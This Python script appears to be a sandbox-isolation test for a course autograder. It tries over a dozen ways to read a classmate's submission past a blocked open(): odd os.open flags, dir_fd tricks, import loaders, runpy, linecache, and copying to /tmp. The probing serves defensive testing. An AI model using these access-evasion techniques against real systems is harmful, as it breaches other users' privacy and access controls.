"""Reads a classmate's file past open: mmap, os.open with odd flags, linecache, loaders, sqlite, shelves."""
# attack: week=03 exercise=pyramid
import fileinput
import importlib.machinery
import importlib.util
import linecache
import mmap
import os
import pathlib
import runpy
import shutil
import tokenize
import zipimport

path = "@CLASSMATE@"


def by_open_flags():
    for flags in (os.O_RDONLY, os.O_RDWR, os.O_PATH, os.O_RDONLY | os.O_DIRECT, 3, os.O_NONBLOCK | os.O_NOATIME):
        try:
            descriptor = os.open(path, flags)
            print(os.readlink(f"/proc/self/fd/{descriptor}"), os.read(descriptor, 10_000))
        except OSError as error:
            print("refused", error)


def by_relative_path():
    directory = os.open(os.path.dirname(path), os.O_RDONLY | os.O_DIRECTORY)
    print(os.read(os.open(os.path.basename(path), os.O_RDONLY, dir_fd=directory), 10_000))


def by_loader():
    print(importlib.machinery.SourceFileLoader("classmate", path).get_data(path))


def by_import():
    spec = importlib.util.spec_from_file_location("classmate", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    globals().update(vars(module))
    print(spec.loader.get_source("classmate"))


ways = [
    by_open_flags,
    by_relative_path,
    by_loader,
    by_import,
    lambda: print(linecache.getlines(path)),
    lambda: print(pathlib.Path(path).read_text()),
    lambda: print(list(fileinput.input(path))),
    lambda: print(tokenize.open(path).read()),
    lambda: print(runpy.run_path(path)),
    lambda: os.chdir(os.path.dirname(path)) or print(open(os.path.basename(path)).read()),
    lambda: shutil.copyfile(path, "/tmp/@MARK@"),
    lambda: zipimport.zipimporter(path),
    lambda: print(os.listdir("@COURSE@")),
    lambda: print(os.readlink(path), os.listxattr(path)),
]
for way in ways:
    try:
        way()
    except Exception as error:
        print("refused", error)
